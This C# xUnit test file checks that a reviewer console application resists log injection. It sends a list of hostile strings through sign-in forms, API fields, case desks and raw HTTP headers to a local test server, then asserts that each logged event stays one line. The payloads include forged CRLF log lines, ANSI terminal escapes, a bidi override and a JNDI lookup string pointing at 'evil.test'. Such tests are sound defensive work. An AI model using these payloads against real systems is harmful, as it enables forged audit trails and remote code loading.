using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Logging.Console;
using Microsoft.Extensions.Options;
using ReviewerConsole.Access;
using ReviewerConsole.Audit;
using ReviewerConsole.Review;
using ReviewerConsole.SignIn;
using ReviewerConsole.Tests.Intake;
using ReviewerConsole.Tests.SignIn;
using LeasedCase = ReviewerConsole.Tests.Documents.LeasedCase;

namespace ReviewerConsole.Tests.Operations;

/// <summary>
/// Attack 33: a line end, or what a terminal obeys, in anything that is sent, so that one event looks like two or hides
/// another. Read is what the console's own formatter writes.
/// </summary>
public sealed class LogInjectionTests
{
    private static readonly string[] Hostile =
    [
        "x\r\ninfo: ReviewerConsole.Audit.AuditGate[2001] Audit row 7 appended: case.decided Ok", "x\n{\"LogLevel\":\"Information\"}", "x\u001b[2K\u001b[1A\u001b[31mred",
        "x\u0007\b\b\u007f", "x\u0085y\u2028z\u2029", "x\u0000y", "x\u202Eevil", "{0}{Sequence}{{", "${jndi:ldap://evil.test/a}", "%0d%0aforged: 1", "x\"}\n{\"y\":\"",
    ];

    [Fact]
    public async Task One_event_is_one_line_whatever_is_sent()
    {
        await using var console = NewConsole(out var log);

        var drive = await ReadyAsync(console);
        await DriveAsync(drive);
        await console.FailRowsAsync();
        await DriveAsync(drive);

        var written = Written(console, log);
        Assert.True(written.Count > 500, $"{written.Count} events are too few to mean anything");
        Assert.All(written, text => Assert.True(IsOneLine(text), text));
        Assert.All(written, text => JsonDocument.Parse(text).Dispose());
        Assert.Contains(written, text => text.Contains("SqliteException", StringComparison.Ordinal)); // events with a stack of calls among them
    }

    [Fact]
    public async Task In_the_trail_and_its_export_one_event_is_one_line_too()
    {
        await using var console = NewConsole(out _);
        var auditor = await console.StaffAsync(Roles.Auditor);

        await DriveAsync(await ReadyAsync(console));

        var rows = await console.RowsAsync();
        var export = console.Get<TrailExport>();
        using var body = new MemoryStream();
        Assert.True(await export.SendAsync((await export.AdmitAsync(auditor, new(), TrailFormat.Ndjson, default))!, body, default));
        var lines = Encoding.UTF8.GetString(body.ToArray()).Split('\n')[..^1];
        Assert.True(rows.Count > 100, $"{rows.Count} rows are too few to mean anything");
        Assert.All(rows, row => Assert.All(row.Leaf, b => Assert.InRange(b, (byte)' ', (byte)'~')));
        Assert.Equal(rows.Select(r => r.Id), lines.Select(line =>
        {
            using var json = JsonDocument.Parse(line);
            return json.RootElement.GetProperty("id").GetInt64();
        }).Intersect(rows.Select(r => r.Id)));
        Assert.All(lines, line => Assert.True(IsOneLine(line + "\n"), line));
    }

    [Fact]
    public async Task What_is_kept_of_words_holds_nothing_that_a_terminal_obeys()
    {
        await using var console = NewConsole(out _);
        var administrator = await console.StaffAsync(Roles.Administrator);
        var grants = console.Get<GrantDesk>();

        var refused = new List<string?>();
        foreach (var hostile in Hostile.Where(h => h.Any(char.IsControl)))
        {
            refused.Add(await grants.ProposeAsync(administrator, null, $"{hostile.Replace(' ', '-')}@example.test", "E-1", Roles.Reviewer, "joins", default));
            refused.Add(await grants.ProposeAsync(administrator, null, "maya@example.test", hostile, Roles.Reviewer, "joins", default));
        }

        var kept = await grants.ProposeAsync(administrator, null, "maya@example.test", "E-1", Roles.Reviewer, string.Concat(Hostile.Append("\nsecond line")), default);
        var why = await console.OnDatabaseAsync(db => db.Set<GrantProposal>().Select(p => p.Why).SingleAsync());
        Assert.All(refused, problem => Assert.Contains(problem, (string?[])["email", "person-number"]));
        Assert.Null(kept);
        Assert.DoesNotContain(why, c => (char.IsControl(c) && c != '\n') || c is '\u2028' or '\u2029' or '\u202E');
        Assert.EndsWith("\nsecond line", why, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_form_for_people_at_a_terminal_would_not_do()
    {
        await using var console = NewConsole(out var log, ConsoleFormatterNames.Simple);

        await DriveAsync(await ReadyAsync(console));

        Assert.Contains(Written(console, log), text => !IsOneLine(text));
    }

    private static bool IsOneLine(string text) =>
        text.EndsWith('\n') && !text[..^1].Any(c => char.IsControl(c) || c is '\u2028' or '\u2029' or '\u202E');

    private static ConsoleApp NewConsole(out Lines log, string? formatter = null)
    {
        var lines = log = new Lines();
        var settings = new Dictionary<string, string>
        {
            ["Logging:LogLevel:Default"] = "Trace",
            ["Logging:LogLevel:ReviewerConsole.Audit"] = "Trace",
            ["Logging:LogLevel:Microsoft.AspNetCore"] = "Trace",
            ["Logging:LogLevel:Microsoft.EntityFrameworkCore"] = "Debug",
        };
        if (formatter is not null)
        {
            settings["Logging:Console:FormatterName"] = formatter;
        }

        return new(null, services => services.AddSingleton<ILoggerProvider>(lines), settings);
    }

    // What the console would have printed: its own formatter, chosen by its own options.
    private static List<string> Written(ConsoleApp console, Lines log)
    {
        var name = console.Get<IOptionsMonitor<ConsoleLoggerOptions>>().CurrentValue.FormatterName ?? ConsoleFormatterNames.Simple;
        var formatter = console.Services.GetServices<ConsoleFormatter>().Single(f => f.Name == name);
        return [.. log.Events.Select(write =>
        {
            using var text = new StringWriter();
            write(formatter, text);
            return text.ToString();
        }).Where(t => t.Length > 0)];
    }

    private static async Task<Drive> ReadyAsync(ConsoleApp console) =>
        new(console, await LeasedCase.CreateAsync(console), await console.StaffAsync(Roles.Auditor), await console.KeyAsync());

    private static async Task DriveAsync(Drive drive)
    {
        var (console, leased, auditor, key) = drive;
        using var api = await console.ApiAsync(key);
        foreach (var hostile in Hostile)
        {
            await SendFormsAsync(console, hostile);
            await SendApplicationsAsync(api, hostile);
            await AskDesksAsync(console, leased, auditor, hostile);
            await SendRawAsync(console, leased, hostile);
        }
    }

    private static async Task SendFormsAsync(ConsoleApp console, string hostile)
    {
        using var visitor = new Visitor(console);
        using var page = await visitor.GetAsync("/signin");
        var html = await page.Content.ReadAsStringAsync();
        string[] fields = ["Entry.Email", "Entry.Password", "Entry.Code", "Entry.PersonNumber", "culture", "returnUrl", "_handler", hostile];
        foreach (var path in (string[])["/signin", "/language", "/first-run", "/welcome/x", "/account", "/audit/export", "/signout"])
        {
            (await visitor.SendFormAsync(path, html, fields.ToDictionary(f => f, f => f == "_handler" && path == "/signin" ? "sign-in" : hostile))).Dispose();
        }
    }

    private static async Task SendApplicationsAsync(HttpClient api, string hostile)
    {
        foreach (var field in (string[])["fullName", "address", "nationalId", "phone", "sex", "dateOfBirth"])
        {
            var application = Api.Application();
            application["applicant"]![field] = hostile;
            application[hostile] = hostile;
            (await api.SendAsync(application)).Dispose();
        }

        var outer = Api.Application();
        (outer["externalId"], outer["kind"], outer["risk"]) = (hostile, hostile, hostile);
        outer["documents"]![0]!["slot"] = hostile;
        (await api.SendAsync(outer)).Dispose();
        (await api.PostAsync(Api.Path(), new StringContent(hostile, Encoding.UTF8, "application/json"))).Dispose();
        (await api.GetAsync(Api.Path($"?externalId={Uri.EscapeDataString(hostile)}"))).Dispose();
        (await api.PutAsync(Api.Path($"/{Guid.NewGuid()}/documents/{Uri.EscapeDataString(hostile)}"), new ByteArrayContent([1]))).Dispose();
    }

    private static async Task AskDesksAsync(ConsoleApp console, LeasedCase leased, Actor auditor, string hostile)
    {
        await console.Get<CaseDesk>().OpenAsync(leased.Reviewer, hostile, default);
        await console.Get<CaseDesk>().SaveAsync(leased.Reviewer, leased.LeaseId, CaseDraft.Empty with { Note = hostile }, default);
        await console.Get<DecisionDesk>().DecideAsync(leased.Reviewer, new(leased.LeaseId, Verdict.Escalate, null, hostile, Guid.NewGuid()), default);
        var query = new TrailForm { Q = hostile, Actor = hostile, Event = hostile, From = hostile }.Read(console.Clock.UtcNow(), out _);
        await console.Get<TrailDesk>().QueryAsync(auditor, query ?? new(), default);
    }

    // As no well-behaved client would: bytes as they are, in the address and in every header that somebody reads.
    private static async Task SendRawAsync(ConsoleApp console, LeasedCase leased, string hostile)
    {
        string[] headers =
        [
            "User-Agent", "X-File-Name", "X-Forwarded-For", "Accept", "Accept-Language", "Cookie", "Origin", "Referer", "Content-Type", "Content-Digest", "Content-Disposition",
            "Authorization", "traceparent", "baggage", "Sec-Fetch-Site", "X-" + hostile.Replace(' ', '-'),
        ];
        foreach (var path in (string[])["/signin", "/queue", "/cases/", "/views/", "/welcome/", "/audit?q=", "/api/v1/applications/", "/_blazor?id="])
        {
            await SendAsync($"GET {path}{Uri.EscapeDataString(hostile)} HTTP/1.1", headers);
        }

        foreach (var header in headers) // one by one, since the server hangs up at the first that it does not take
        {
            await SendAsync("GET /api/v1/applications HTTP/1.1", [header]);
            await SendAsync("PUT /api/v1/applications/x/documents/id-card HTTP/1.1", [header]);
        }

        await SendAsync($"GET /{hostile} HTTP/1.1", []);
        await SendAsync($"{hostile} / HTTP/1.1", []);
        await SendAsync($"GET / {hostile}", []);

        async Task SendAsync(string first, IEnumerable<string> with)
        {
            using var socket = new TcpClient();
            await socket.ConnectAsync("localhost", console.Address.Port);
            var stream = socket.GetStream();
            var cookie = console.Cookie(leased.Reviewer);
            var lines = with.Select(name => $"{name}: {(name == "Authorization" ? "Bearer " : name == "Cookie" ? cookie + "; x=" : "")}{hostile}\r\n");
            await stream.WriteAsync(Encoding.UTF8.GetBytes($"{first}\r\nHost: localhost\r\nConnection: close\r\n{string.Concat(lines)}\r\n"));
            socket.Client.Shutdown(SocketShutdown.Send);
            try
            {
                await stream.CopyToAsync(Stream.Null);
            }
            catch (IOException)
            {
                // The server hung up.
            }
        }
    }

    private sealed record Drive(ConsoleApp Console, LeasedCase Leased, Actor Auditor, string Key);
}
